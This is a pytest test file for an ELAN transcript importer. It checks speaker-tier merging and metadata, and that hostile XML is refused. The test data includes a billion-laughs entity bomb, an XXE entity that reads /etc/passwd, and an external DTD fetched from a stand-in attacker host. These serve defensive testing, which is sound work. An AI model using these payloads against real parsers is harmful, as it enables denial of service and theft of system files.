"""ELAN: tiers as speakers merged in time order, metadata, and hostile XML refused."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from intercept_viewer.core.errors import ImportFailed
from intercept_viewer.core.importers import SourceFile, detect
from intercept_viewer.core.importers.elan import MAX_DEPTH, ElanImporter
from intercept_viewer.core.model import ParsedTranscript

FIXTURES = Path(__file__).parent.parent.parent / "fixtures" / "importers" / "structured"

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<ANNOTATION_DOCUMENT AUTHOR="" DATE="2024-01-01T00:00:00+00:00" FORMAT="3.0" '
    'VERSION="3.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:noNamespaceSchemaLocation="http://www.mpi.nl/tools/elan/EAFv3.0.xsd">\n'
    '<HEADER MEDIA_FILE="" TIME_UNITS="milliseconds"/>\n'
)


def eaf(
    slots: dict[str, int], tiers: list[tuple[dict[str, str], list[tuple[str, str, str]]]]
) -> str:
    """A small EAF: ``tiers`` are (attributes, [(slot1, slot2, text)])."""
    parts = [HEAD, "<TIME_ORDER>"]
    parts += [f'<TIME_SLOT TIME_SLOT_ID="{k}" TIME_VALUE="{v}"/>' for k, v in slots.items()]
    parts.append("</TIME_ORDER>")
    n = 0
    for attrs, notes in tiers:
        attr = " ".join(f'{k}="{v}"' for k, v in attrs.items())
        parts.append(f"<TIER {attr}>")
        for s1, s2, text in notes:
            n += 1
            parts.append(
                f'<ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a{n}" TIME_SLOT_REF1="{s1}" '
                f'TIME_SLOT_REF2="{s2}"><ANNOTATION_VALUE>{text}</ANNOTATION_VALUE>'
                "</ALIGNABLE_ANNOTATION></ANNOTATION>"
            )
        parts.append("</TIER>")
    parts.append('<LINGUISTIC_TYPE LINGUISTIC_TYPE_ID="default-lt" TIME_ALIGNABLE="true"/>')
    parts.append("</ANNOTATION_DOCUMENT>\n")
    return "\n".join(parts)


def parse(text: str | bytes, name: str = "call.eaf", path: Path | None = None) -> ParsedTranscript:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return ElanImporter().parse(SourceFile(name, data, path))


def test_two_tiers_merge_in_time_order_with_participant_names_and_metadata() -> None:
    path = FIXTURES / "two_tiers_ru.eaf"
    parsed = parse(path.read_bytes(), str(path), path)
    assert [(u.speaker, u.start_ms, u.end_ms) for u in parsed.utterances] == [
        ("Мать", 0, 2100),
        ("Солдат", 2300, 5200),
        ("Мать", 5400, 7900),
        ("Солдат", 8100, 12600),
    ]
    assert parsed.utterances[1].text.startswith("Под Купянском, мам.")
    # the dependent Ukrainian translation tier is not a speaker and adds no turns
    assert [s.label for s in parsed.speakers] == ["Мать", "Солдат"]
    assert not any("Куп'янськом" in u.text for u in parsed.utterances)
    meta = parsed.meta
    assert meta.title == "Перехват: солдат звонит матери из-под Купянска"
    assert meta.publisher == "ГУР МО Украины"
    assert meta.source_url == "https://example.org/hur/perehvat-0305"
    assert meta.language == "ru"  # from LANG_REF="rus"
    # RELATIVE_MEDIA_URL is resolved against the .eaf's folder
    assert meta.media_path == str((FIXTURES / "perehvat_0305.wav").resolve())
    # ELAN's own bookkeeping properties are not source metadata
    assert meta.extra == {}


def test_tier_id_is_the_speaker_without_participant_and_tiers_of_one_participant_merge() -> None:
    text = eaf(
        {"t1": 0, "t2": 1000, "t3": 1000, "t4": 2000, "t5": 2500, "t6": 3000},
        [
            ({"TIER_ID": "Interviewer", "LINGUISTIC_TYPE_REF": "default-lt"}, [("t1", "t2", "a")]),
            (
                {"TIER_ID": "S1-main", "PARTICIPANT": "Soldier", "LINGUISTIC_TYPE_REF": "d"},
                [("t5", "t6", "c")],
            ),
            (
                {"TIER_ID": "S1-extra", "PARTICIPANT": "Soldier", "LINGUISTIC_TYPE_REF": "d"},
                [("t3", "t4", "b")],
            ),
        ],
    )
    parsed = parse(text)
    assert [(u.speaker, u.text) for u in parsed.utterances] == [
        ("Interviewer", "a"),
        ("Soldier", "b"),
        ("Soldier", "c"),
    ]
    assert [s.label for s in parsed.speakers] == ["Interviewer", "Soldier"]


def test_equal_start_times_keep_tier_order_and_whitespace_is_collapsed() -> None:
    text = eaf(
        {"t1": 500, "t2": 900},
        [
            ({"TIER_ID": "B", "LINGUISTIC_TYPE_REF": "x"}, [("t1", "t2", "  first\n  line ")]),
            ({"TIER_ID": "A", "LINGUISTIC_TYPE_REF": "x"}, [("t1", "t2", "second")]),
        ],
    )
    assert [(u.speaker, u.text) for u in parse(text).utterances] == [
        ("B", "first line"),
        ("A", "second"),
    ]


def test_top_level_translation_tier_is_not_a_speaker() -> None:
    text = eaf(
        {"t1": 0, "t2": 1000},
        [
            ({"TIER_ID": "Солдат", "LINGUISTIC_TYPE_REF": "utt"}, [("t1", "t2", "Привет")]),
            ({"TIER_ID": "Translation-en", "LINGUISTIC_TYPE_REF": "utt"}, [("t1", "t2", "Hi")]),
        ],
    )
    assert [(u.speaker, u.text) for u in parse(text).utterances] == [("Солдат", "Привет")]


def test_sniff_and_detect_by_content() -> None:
    text = eaf({"t1": 0, "t2": 1}, [({"TIER_ID": "A", "LINGUISTIC_TYPE_REF": "x"}, [])])
    assert detect(SourceFile("call.xml", text.encode())).name == "elan"
    assert ElanImporter().sniff(SourceFile("x.txt", b"SOLDIER: hello")) == 0


def test_no_output_on_stdout_or_stderr_and_pympi_left_untouched(capsys) -> None:
    import pympi.Elan

    before = pympi.Elan.etree
    text = eaf(
        {"t1": 0, "t2": 1}, [({"TIER_ID": "A", "LINGUISTIC_TYPE_REF": "x"}, [("t1", "t2", "x")])]
    )
    # an unknown VERSION makes pympi warn; filterwarnings=error would turn that into a failure
    parse(text.replace('VERSION="3.0"', 'VERSION="9.9"'))
    assert pympi.Elan.etree is before
    out = capsys.readouterr()
    assert out.out == "" and out.err == ""


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE ANNOTATION_DOCUMENT [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ANNOTATION_DOCUMENT VERSION="3.0"><TIME_ORDER><TIME_SLOT TIME_SLOT_ID="ts1" TIME_VALUE="0"/>
<TIME_SLOT TIME_SLOT_ID="ts2" TIME_VALUE="1"/></TIME_ORDER>
<TIER TIER_ID="A"><ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a1" TIME_SLOT_REF1="ts1"
TIME_SLOT_REF2="ts2"><ANNOTATION_VALUE>&lol9;</ANNOTATION_VALUE></ALIGNABLE_ANNOTATION>
</ANNOTATION></TIER></ANNOTATION_DOCUMENT>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE ANNOTATION_DOCUMENT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ANNOTATION_DOCUMENT VERSION="3.0"><TIME_ORDER><TIME_SLOT TIME_SLOT_ID="ts1" TIME_VALUE="0"/>
<TIME_SLOT TIME_SLOT_ID="ts2" TIME_VALUE="1"/></TIME_ORDER>
<TIER TIER_ID="A"><ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a1" TIME_SLOT_REF1="ts1"
TIME_SLOT_REF2="ts2"><ANNOTATION_VALUE>&xxe;</ANNOTATION_VALUE></ALIGNABLE_ANNOTATION>
</ANNOTATION></TIER></ANNOTATION_DOCUMENT>
"""

#: An internal entity without a DOCTYPE is impossible; this one declares an external DTD.
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ANNOTATION_DOCUMENT SYSTEM "http://attacker.invalid/evil.dtd">
<ANNOTATION_DOCUMENT VERSION="3.0"/>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_entity_bombs_and_external_entities_are_refused(text: str) -> None:
    with pytest.raises(ImportFailed) as info:
        parse(text, "bomb.eaf")
    message = str(info.value)
    assert message.startswith("bomb.eaf")
    assert "entity expansion / external entity refused" in message
    assert "root:" not in message and "lollol" not in message


def test_etc_passwd_never_reaches_the_library(library, tmp_path: Path) -> None:
    path = tmp_path / "xxe.eaf"
    path.write_text(EXTERNAL_ENTITY, encoding="utf-8")
    with pytest.raises(ImportFailed):
        library.import_file(path)
    assert library.transcripts() == []
    rows = library.db.execute("SELECT count(*) FROM utterances").fetchone()[0]
    assert rows == 0


def test_a_failed_bomb_import_leaves_the_library_unchanged(library, tmp_path: Path) -> None:
    good = tmp_path / "good.eaf"
    good.write_bytes((FIXTURES / "two_tiers_ru.eaf").read_bytes())
    library.import_file(good)
    before = [(t.id, t.title, t.utterance_count) for t in library.transcripts()]
    bomb = tmp_path / "bomb.eaf"
    bomb.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(ImportFailed) as info:
        library.import_file(bomb)
    assert info.value.file == str(bomb)
    assert [(t.id, t.title, t.utterance_count) for t in library.transcripts()] == before


def test_deep_nesting_is_refused_before_it_is_built() -> None:
    deep = "<ANNOTATION_DOCUMENT>" + "<X>" * 200_000 + "</X>" * 200_000 + "</ANNOTATION_DOCUMENT>"
    with pytest.raises(ImportFailed, match=f"deeper than {MAX_DEPTH}"):
        parse(deep)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (HEAD + "<TIER TIER_ID='A'>\n<ANNOTATION>\n</TIER>\n</ANNOTATION_DOCUMENT>", 6),
        (HEAD + "<TIME_ORDER>\n", 5),  # cut off
        ("<?xml version='1.0'?>\n<ANNOTATION_DOCUMENT>\n  <HEADER a=1/>\n", 3),
    ],
)
def test_malformed_xml_names_the_line(text: str, line: int) -> None:
    with pytest.raises(ImportFailed) as info:
        parse(text, "bad.eaf")
    assert info.value.line == line
    assert "not well-formed XML" in info.value.message


def test_other_xml_is_not_elan() -> None:
    with pytest.raises(ImportFailed, match="ANNOTATION_DOCUMENT"):
        parse("<?xml version='1.0'?><TEI><text/></TEI>")


def test_structurally_broken_eaf_is_import_failed_not_keyerror() -> None:
    text = HEAD + "<TIER><ANNOTATION/></TIER></ANNOTATION_DOCUMENT>"  # TIER without TIER_ID
    with pytest.raises(ImportFailed, match="broken ELAN structure"):
        parse(text)


def test_no_annotations_is_a_clear_error() -> None:
    text = eaf({"t1": 0}, [({"TIER_ID": "A", "LINGUISTIC_TYPE_REF": "x"}, [])])
    with pytest.raises(ImportFailed, match="no annotations"):
        parse(text)


def test_vetting_keeps_stdlib_parser_out_of_the_way() -> None:
    """A sanity check of the premise: the stdlib would have expanded the bomb."""
    small = BILLION_LAUGHS.replace("&lol9;", "&lol1;")
    root = ET.fromstring(small)
    assert "lollol" in "".join(root.itertext())
    with pytest.raises(ImportFailed):
        parse(small)


def test_xml_with_a_long_dtd_is_still_claimed_and_refused() -> None:
    text = '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "' + "x" * 20_000 + '">]>\n<A>&a;</A>'
    for name in ("call.eaf", "call.txt"):
        source = SourceFile(name, text.encode())
        assert detect(source).name == "elan"
        with pytest.raises(ImportFailed, match="entity"):
            ElanImporter().parse(source)
